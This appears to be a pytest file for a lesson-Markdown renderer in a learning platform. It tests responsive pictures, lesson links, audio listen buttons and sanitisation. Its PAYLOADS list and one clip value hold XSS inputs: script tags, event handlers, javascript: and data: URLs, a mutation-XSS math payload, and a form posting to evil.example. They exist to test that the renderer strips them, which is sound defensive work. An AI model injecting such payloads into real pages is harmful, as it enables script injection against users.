"""Rendering lesson Markdown: responsive pictures, lesson links, and no way to inject script."""
import pytest

from lms.models import MediaAsset
from lms.services import markup

ASSET = MediaAsset(sha256="ab" * 32, kind="image", mime="image/png", extension="png", size=1, width=1000,
                   height=500, widths="360,720,1000")


def test_a_picture_becomes_a_responsive_picture_with_webp_and_jpeg():
    html = markup.render("![Một bàn tay](media/tay.png)", media=lambda p: ASSET if p == "media/tay.png" else None)
    sha = ASSET.sha256
    assert "<picture><source" in html and 'type="image/webp"' in html
    assert f"/media/ab/{sha}-360.webp 360w" in html and f"/media/ab/{sha}-1000.webp 1000w" in html
    assert f'src="/media/ab/{sha}-720.jpg"' in html
    for attribute in ('width="1000"', 'height="500"', 'loading="lazy"', 'alt="Một bàn tay"'):
        assert attribute in html


def test_a_link_to_another_lesson_file_becomes_its_address():
    html = markup.render("[Bài sau](02-bai-sau.md)", link=lambda href: "/learn/l/p/c/bai-sau")
    assert 'href="/learn/l/p/c/bai-sau"' in html


PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=\"https://example.org\"></iframe>",
    '<svg onload="alert(1)"><circle/></svg>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<img src="x" srcset="javascript:alert(1) 1w">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<form action="https://evil.example"><input name=pin></form>',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_script_survives(payload):
    html = markup.render(payload).lower()
    for bad in ("<script", "onerror", "onload", "javascript:", "<iframe", "<svg", "style=", "data:text", "<form", "<input"):
        assert bad not in html


def test_a_picture_with_a_clip_gets_a_listen_button_right_under_it_even_behind_a_tap():
    html = markup.render("Nhìn:\n\n![Một bàn tay](media/tay.png)\n\n![Khác](media/khac.png)\n",
                         media=lambda p: ASSET if p == "media/tay.png" else None)
    clips = {ASSET.sha256: '/media/cd/x.ogg?"><script>'}  # escaped like any value, though it comes from the site
    shown = markup.listen_under_pictures(html, clips, "Nghe")
    button = '<button type="button" class="listen" data-audio="/media/cd/x.ogg?&quot;&gt;&lt;script&gt;" hidden>🔊 Nghe'
    assert shown.count(button) == 1 and "<script>" not in shown
    assert shown.index("</picture>") < shown.index(button) and 'preload="none"' in shown
    behind_a_tap = markup.listen_under_pictures(markup.tap_to_show(html, "Chạm"), clips, "Nghe")
    assert "</picture></details><span class=\"picture-listen\">" in behind_a_tap
    assert markup.listen_under_pictures(html, {}, "Nghe") == html
    assert markup.listen_under_pictures(html, {"cd" * 32: "/media/x.ogg"}, "Nghe") == html  # another picture's clip
